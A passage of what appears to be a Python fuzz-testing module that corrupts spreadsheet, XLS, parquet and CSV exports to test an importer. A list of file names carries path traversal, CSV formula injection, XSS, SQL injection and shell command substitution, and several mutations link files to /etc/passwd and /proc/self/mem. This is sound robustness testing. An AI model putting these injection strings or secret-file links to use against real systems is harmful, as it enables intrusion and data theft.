    deep = "<a>" * 200_000
    return _sheet(e, lambda _: _rows_xml([*_inline(e.grid), deep]))


@mutation()
def dates_out_of_range(e: Export, rng: random.Random) -> Drop:
    """Numbers under a date's format that are no date."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(e.grid)))
    for row in book.worksheets[0].iter_rows(min_row=len(e.above) + 2):
        for cell in row:
            if rng.random() < 0.3:
                cell.value = rng.choice([-1, 0, 60, 2958466, 1e15, 1e300, -1e300, 0.5])
                cell.number_format = rng.choice(["yyyy-mm-dd", "[h]:mm:ss", "hh:mm", "d/m/yy h:mm"])
    return _saved(book)


def _saved(book: object) -> Drop:
    out = io.BytesIO()
    book.save(out)  # type: ignore[attr-defined]
    return _book(out.getvalue())


@mutation()
def locked(e: Export, rng: random.Random) -> Drop:
    """Locked with a password that nobody has written down; whole or cut."""
    data = lock(as_xlsx(e.grid), "a password nobody knows")
    return _book(data if rng.random() < 0.5 else data[: rng.randrange(600, len(data))])


@mutation()
def locked_and_flipped(e: Export, rng: random.Random) -> Drop:
    data = bytearray(lock(as_xlsx(e.grid), "a password nobody knows"))
    for _ in range(rng.randrange(1, 60)):
        data[rng.randrange(min(len(data), 4096))] ^= 1 << rng.randrange(8)
    return _book(bytes(data))


def lock(data: bytes, password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


@mutation()
def old_workbook_cut(e: Export, rng: random.Random) -> Drop:
    data = as_xls(e.grid)
    return [("book.xls", data[: rng.randrange(8, len(data))])]


@mutation()
def old_workbook_flipped(e: Export, rng: random.Random) -> Drop:
    data = bytearray(as_xls(e.grid))
    for _ in range(rng.randrange(1, 40)):
        data[rng.randrange(rng.choice([600, len(data)]))] = rng.randrange(256)
    return [("book.xls", bytes(data))]


@mutation()
def old_workbook_in_circles(e: Export, rng: random.Random) -> Drop:
    """A chain of sectors that leads back to its beginning."""
    data = bytearray(as_xls(e.grid))
    sector = struct.unpack("<I", data[76:80])[0]
    start = 512 + sector * 512
    for at in range(start, start + 512, 4):
        if rng.random() < 0.5:
            data[at : at + 4] = struct.pack("<I", rng.choice([0, 1, 2, 3, 0xFFFFFFFE, 70_000]))
    return [("book.xls", bytes(data))]


@mutation()
def any_archive(e: Export, rng: random.Random) -> Drop:
    inside = {"a.csv": e.text().encode(), "../../b.csv": b"x", "xl/nothing.xml": b"<x/>"}
    return _book(_zipped(dict(rng.sample(sorted(inside.items()), 2))))


@mutation()
def archive_of_a_csv(e: Export, rng: random.Random) -> Drop:
    return [("export.csv", _zipped({"export.csv": e.text().encode()}))]


@mutation()
def parquet_spoilt(e: Export, rng: random.Random) -> Drop:
    import tempfile

    import duckdb

    with tempfile.TemporaryDirectory() as folder, duckdb.connect() as con:
        text, out = Path(folder, "a.csv"), Path(folder, "a.parquet")
        text.write_text(e.text([e.headers, *e.rows], ","), encoding="utf-8", newline="")
        con.execute(
            f"COPY (FROM read_csv('{text}', header=true, all_varchar=true, null_padding=true,"
            f" strict_mode=false)) TO '{out}'"
        )
        data = bytearray(out.read_bytes())
    for _ in range(rng.choice([0, 1, 8, 60])):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return [("a.parquet", bytes(data[: rng.choice([len(data), rng.randrange(8, len(data))])]))]


# Names and things that are no files

NAMES: tuple[str | bytes, ...] = (
    "..%2f..%2fevil.csv", "..\\..\\evil.csv", "....csv", "new\nline.csv", "tab\there.csv",
    "n" * 240 + ".csv", "长" * 80 + ".csv", "=cmd|' /C calc'!A0.csv", "-rf.csv", "--help.csv",
    "<img src=x onerror=alert(1)>.csv", "'; DROP TABLE x; --.csv", '"quoted".csv', "[abc].csv",
    "a*b?.csv", "{a,b}.csv", "$(touch x).csv", "%s%n.csv", "CON.csv", "no_ending", "two.csv.exe",
    "\u202evsc.csv", "👩‍👩‍👧.csv", b"not-utf8-\xff\xfe.csv", "a\\x00b.csv", " lead and trail .csv",
    "#hash?query&x=1.csv", "file:%2f%2fetc.csv", "\x1b[31mred.csv", "~.csv", "|pipe.csv",
    "s3:__bucket.csv", "a" + "\u0301" * 60 + ".csv",
)  # fmt: skip


@mutation()
def odd_names(e: Export, rng: random.Random) -> Drop:
    """The file is as good as any; its name is not."""
    data = e.data()
    return [(name, data + b"\n" * at) for at, name in enumerate(rng.sample(NAMES, 6))]


@mutation()
def odd_folders(e: Export, rng: random.Random) -> Drop:
    data = e.data()
    folders = rng.sample([one for one in NAMES if isinstance(one, str)], 3)
    return [(f"{folder}/x/{e.name}", data + b"\n" * at) for at, folder in enumerate(folders)]


@mutation()
def hidden_and_half_written(e: Export, rng: random.Random) -> Drop:
    return [(name, e.data()) for name in (".hidden.csv", "~$book.xlsx", "Thumbs.db", ".DS_Store")]


@mutation()
def no_files(e: Export, rng: random.Random) -> Drop:
    def a_socket(path: Path) -> None:
        if len(os.fsencode(path)) < 100:
            with socket.socket(socket.AF_UNIX) as one:
                one.bind(str(path))

    return [
        ("folder.csv", lambda path: path.mkdir()),
        ("pipe.csv", os.mkfifo),
        ("socket.csv", a_socket),
        ("zeros.csv", lambda path: path.symlink_to("/dev/zero")),
        ("memory.csv", lambda path: path.symlink_to("/proc/self/mem")),
        ("nowhere.csv", lambda path: path.symlink_to("not there")),
        ("circle.csv", lambda path: path.symlink_to(path.name)),
        ("all", lambda path: path.symlink_to("/etc")),
        ("up", lambda path: path.symlink_to("..")),
    ]


@mutation()
def links_out_of_the_inbox(e: Export, rng: random.Random) -> Drop:
    def outside(path: Path) -> None:
        # Two folders above the workspace's inbox lies what is none of its business.
        secret = path.parents[4] / "outside.csv"
        secret.write_bytes(e.data())
        path.symlink_to(secret)

    return [
        ("passwd.csv", lambda path: path.symlink_to("/etc/passwd")),
        ("link.csv", outside),
        ("beside.csv", e.data()),
        ("again.csv", lambda path: path.symlink_to("beside.csv")),
        ("hard.csv", lambda path: path.hardlink_to(path.with_name("beside.csv"))),
    ]


@mutation()
def same_file_under_other_names(e: Export, rng: random.Random) -> Drop:
    return [(name, e.data()) for name in (e.name, f"copy of {e.name}", f"x/{e.name}", "z")]


MUTATIONS: Mapping[str, Spoil] = MappingProxyType(_ALL)


def spoilt(seed: int, export: Export, name: str) -> Drop:
    """Spoil a file: the same for the same seed, family and mutation."""
    return MUTATIONS[name](export, random.Random(f"{seed}/{export.family}/{export.name}/{name}"))


def fits(export: Export, name: str) -> bool:
    return not (NEEDS[name] == "text" and export.is_book)
